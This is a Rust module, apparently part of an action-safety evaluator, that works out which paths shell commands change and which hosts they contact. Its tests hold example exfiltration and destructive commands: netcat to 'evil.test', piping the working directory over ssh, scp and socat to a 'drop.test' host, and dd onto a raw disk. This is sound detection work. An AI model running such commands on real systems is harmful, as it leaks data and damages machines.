//! What a command changes and which hosts it names, whether or not that is dangerous: for the operator's rules about
//! reading only, folders and hosts.

use std::ops::Range;

use super::expand::Field;
use super::{Analyzer, Call};

/// What commands change and reach. Spans are bytes of the text.
#[derive(Debug, Default)]
pub(in crate::evaluators::action_safety) struct Effects {
    /// Something is changed, be it a file or not.
    pub(in crate::evaluators::action_safety) changes: bool,
    /// Paths that are written, moved or removed; empty where only running the command would tell.
    pub(in crate::evaluators::action_safety) paths: Vec<(String, Range<usize>)>,
    /// Hosts that are named; empty where only running the command would tell.
    pub(in crate::evaluators::action_safety) hosts: Vec<(String, Range<usize>)>,
}

/// Paths and hosts that are kept of one text; more count as unknown ones.
const MOST: usize = 256;

impl Effects {
    pub(super) fn writes(&mut self, field: &Field<'_>) {
        self.changes = true;
        let path = if field.text.contains("$()") { "" } else { field.text.as_str() };
        push(&mut self.paths, path.to_owned(), &field.span);
    }

    pub(super) fn reaches(&mut self, host: &str, span: &Range<usize>) {
        push(&mut self.hosts, host.to_ascii_lowercase(), span);
    }
}

fn push(list: &mut Vec<(String, Range<usize>)>, value: String, span: &Range<usize>) {
    if list.len() < MOST {
        list.push((value, span.clone()));
    } else if let Some(last) = list.last_mut() {
        last.0.clear();
    }
}

/// Notes what a command changes and reaches, wrappers taken off.
pub(super) fn judge(analyzer: &mut Analyzer<'_>, call: &Call<'_>) {
    let effects = &mut analyzer.found.effects;
    match call.name {
        "rm" | "rmdir" | "unlink" | "shred" | "truncate" | "touch" | "mkdir" | "tee" | "mkfifo" | "mknod"
        | "mv" | "srm" | "wipe" | "sponge" | "split" | "fallocate" => {
            call.operands().for_each(|field| effects.writes(field))
        }
        "chmod" | "chown" | "chgrp" | "chattr" | "setfacl" => {
            call.operands().skip(1).for_each(|field| effects.writes(field));
        }
        "cp" | "install" | "ln" | "rsync" | "scp" | "ditto" => {
            let target = call.operands().last().filter(|_| call.operands().count() > 1);
            if let Some(target) = target.filter(|target| !target.text.contains(':')) {
                effects.writes(target);
            }
        }
        "sed" | "perl" | "ruby" if call.arguments.iter().any(|field| is_in_place(&field.text)) => {
            call.operands().skip(1).for_each(|field| effects.writes(field));
        }
        "dd" => {
            for field in call.arguments {
                if let Some(path) = field.text.strip_prefix("of=") {
                    effects.writes(&Field { text: path.into(), ..field.clone() });
                }
            }
        }
        "find" if call.says(&["-delete", "-fprint", "-fls"]) => match call.operands().next() {
            Some(place) => effects.writes(place),
            None => effects.changes = true,
        },
        "curl" | "wget" => {
            let target = call.value(&["-o", "--output", "-O", "--output-document", "-P"]);
            match target.filter(|target| *target != "-" && !target.contains("://")) {
                Some(path) => effects.writes(&Field { text: path.into(), ..call.first.clone() }),
                None => {
                    effects.changes |=
                        call.has(&["-O", "--remote-name"]) || call.name == "wget" && target.is_none()
                }
            }
        }
        "git" => {
            effects.changes |= !matches!(
                call.operand(0),
                "" | "status"
                    | "log"
                    | "diff"
                    | "show"
                    | "blame"
                    | "ls-files"
                    | "ls-tree"
                    | "rev-parse"
                    | "describe"
                    | "grep"
                    | "cat-file"
                    | "shortlog"
                    | "ls-remote"
                    | "help"
                    | "version"
                    | "rev-list"
                    | "for-each-ref"
                    | "merge-base"
                    | "name-rev"
            );
        }
        "apt" | "apt-get" | "yum" | "dnf" | "apk" | "brew" | "pip" | "pip3" | "npm" | "yarn" | "pnpm"
        | "gem" | "cargo" | "docker" | "podman" | "kubectl" | "helm" | "terraform" | "systemctl"
        | "service" | "snap" | "choco" => {
            effects.changes |= !matches!(
                call.operand(0),
                "" | "list"
                    | "show"
                    | "search"
                    | "info"
                    | "status"
                    | "ps"
                    | "images"
                    | "logs"
                    | "get"
                    | "describe"
                    | "inspect"
                    | "version"
                    | "help"
                    | "is-active"
                    | "plan"
                    | "freeze"
                    | "tree"
                    | "metadata"
                    | "view"
                    | "ls"
                    | "check"
                    | "top"
            );
        }
        "kill" | "pkill" | "killall" | "shutdown" | "reboot" | "poweroff" | "halt" | "mount" | "umount"
        | "crontab" | "useradd" | "userdel" | "usermod" | "passwd" | "mail" | "sendmail" | "mutt"
        | "patch" => {
            effects.changes |= !call.says(&["-l", "--help", "--version"]);
        }
        _ => {}
    }
    hosts(effects, call);
}

fn is_in_place(option: &str) -> bool {
    option == "--in-place"
        || option.starts_with("--in-place=")
        || option.starts_with("-i")
        || option.starts_with('-') && !option.starts_with("--") && option.len() <= 4 && option.contains('i')
}

/// Letters of short options whose value is no host, by program, and long ones. Source: the manual pages.
fn takes_value(name: &str, option: &str) -> bool {
    const LONG: [&str; 22] = [
        "--output",
        "--data",
        "--header",
        "--request",
        "--form",
        "--user",
        "--user-agent",
        "--cookie",
        "--max-time",
        "--data-raw",
        "--data-binary",
        "--json",
        "--write-out",
        "--upload-file",
        "--output-document",
        "--retry",
        "--connect-timeout",
        "--cacert",
        "--cert",
        "--key",
        "--post-data",
        "--data-urlencode",
    ];
    let letters = match name {
        "curl" => "odHXFuAbcemwTEKrtyYzCDPQU",
        "wget" => "OoPUaeitTQlADRIXw",
        "ssh" | "scp" | "sftp" | "mosh" => "bcDEeFIiJLlmOopQRSWw",
        "nc" | "ncat" | "netcat" => "ceipqswxXgmOT",
        "ping" => "cistWwIQmMlpS",
        "nmap" => "pTogDeSi",
        "dig" | "host" | "nslookup" => "tcpyqkbfW",
        "rsync" => "efTB",
        _ => "",
    };
    match option.strip_prefix('-') {
        Some(letter) if letter.len() == 1 => letters.contains(letter),
        _ => LONG.contains(&option),
    }
}

fn hosts(effects: &mut Effects, call: &Call<'_>) {
    // Programs whose operands are hosts or URLs, whose first one is, and whose operands may be.
    let all = matches!(
        call.name,
        "curl"
            | "wget"
            | "http"
            | "https"
            | "xh"
            | "aria2c"
            | "lynx"
            | "w3m"
            | "fetch"
            | "axel"
            | "ping"
            | "dig"
            | "host"
            | "nslookup"
            | "nmap"
            | "tracepath"
            | "traceroute"
    );
    let first = matches!(
        call.name,
        "nc" | "ncat"
            | "netcat"
            | "telnet"
            | "ssh"
            | "sftp"
            | "ftp"
            | "lftp"
            | "tftp"
            | "whois"
            | "mosh"
            | "smbclient"
    );
    let some = matches!(
        call.name,
        "scp" | "rsync" | "git" | "mail" | "mailx" | "mutt" | "sendmail" | "rclone" | "socat" | "openssl"
    );
    if !(all || first || some) {
        return;
    }
    let mut is_value = false;
    let mut count = 0;
    for field in call.arguments {
        let text = field.text.as_str();
        if std::mem::replace(&mut is_value, takes_value(call.name, text)) || text.starts_with(['-', '+']) {
            continue;
        }
        count += 1;
        if text.contains("$()") || text.starts_with('$') {
            if all || first && count == 1 {
                effects.reaches("", &field.span);
            }
            continue;
        }
        let is_remote = text.contains('@')
            || text.contains("://")
            || is_socket(text)
            || text.contains(':') && !text.starts_with('/') && call.name != "git";
        if (all && !matches!(text, "GET" | "POST" | "PUT" | "PATCH" | "DELETE" | "HEAD"))
            || first && count == 1
            || some && is_remote
        {
            effects.reaches(host_of(text), &field.span);
        }
    }
}

fn is_socket(text: &str) -> bool {
    let lower = text.get(..3).unwrap_or_default().to_ascii_lowercase();
    matches!(lower.as_str(), "tcp" | "udp" | "ssl" | "ope") && text.contains(':')
}

/// The host of `scheme://user@host:port/path`, `user@host:path`, `TCP:host:port`, or `host`.
fn host_of(text: &str) -> &str {
    let rest = text.split_once("://").map_or(text, |pair| pair.1);
    let rest = match rest.split_once(':') {
        Some((kind, rest))
            if !text.contains("://") && is_socket(kind_of(kind)) && !kind.contains(['.', '@']) =>
        {
            rest
        }
        _ => rest,
    };
    let end = rest.find(['/', '?', '#', ',', '\\']).unwrap_or(rest.len());
    let rest = rest[..end].rsplit('@').next().unwrap_or_default();
    match rest.strip_prefix('[') {
        Some(rest) => rest.split(']').next().unwrap_or_default(),
        None => rest.split(':').next().unwrap_or_default(),
    }
}

/// `TCP4-LISTEN` and the like, with the colon that [`is_socket`] wants.
fn kind_of(kind: &str) -> &str {
    match kind.get(..3).map(str::to_ascii_lowercase).as_deref() {
        Some("tcp") => "tcp:",
        Some("udp") => "udp:",
        Some("ssl") | Some("ope")
            if kind.eq_ignore_ascii_case("openssl") || kind.eq_ignore_ascii_case("ssl") =>
        {
            "ssl:"
        }
        _ => "",
    }
}

#[cfg(test)]
mod tests {
    use super::super::inspect;

    fn hosts(text: &str) -> Vec<String> {
        inspect(text).effects.hosts.into_iter().map(|found| found.0).collect()
    }

    fn paths(text: &str) -> Vec<String> {
        inspect(text).effects.paths.into_iter().map(|found| found.0).collect()
    }

    #[test]
    fn hosts_are_found_in_every_shape() {
        for (text, host) in [
            ("curl -o out.html api.example.com/v1", "api.example.com"),
            ("curl -s https://user:pw@API.example.com:8443/x?y", "api.example.com"),
            ("nc evil.test 4444", "evil.test"),
            ("tar c . | ssh root@10.0.0.9 'cat > x'", "10.0.0.9"),
            ("scp notes.txt ana@drop.test:/tmp/", "drop.test"),
            ("git push git@forge.test:a/b.git main", "forge.test"),
            ("sudo socat - TCP4:drop.test:99", "drop.test"),
            ("ping -c 3 [::1]", "::1"),
            ("curl \"$(cat where)\"", ""),
        ] {
            assert_eq!(hosts(text), [host], "{text}");
        }
        assert!(hosts("ls https://example.com; cat a@b.test").is_empty());
    }

    #[test]
    fn changed_paths_are_found() {
        for (text, path) in [
            ("echo hi > /srv/a", "/srv/a"),
            ("rm -f b.txt", "b.txt"),
            ("cp a.txt ../b.txt", "../b.txt"),
            ("sed -i s/a/b/ c.txt", "c.txt"),
            ("dd if=a of=/dev/sdb", "/dev/sdb"),
            ("sudo tee /etc/hosts < a", "/etc/hosts"),
        ] {
            assert_eq!(paths(text), [path], "{text}");
        }
        let reads = [
            "ls -l > /dev/null 2>&1",
            "cat a.txt | sort",
            "git log -3",
            "curl https://example.com",
            "kubectl get pods",
        ];
        for text in reads {
            assert!(!inspect(text).effects.changes, "{text}");
        }
        assert!(inspect("git commit -m 'a'").effects.changes && inspect("npm install left").effects.changes);
    }
}
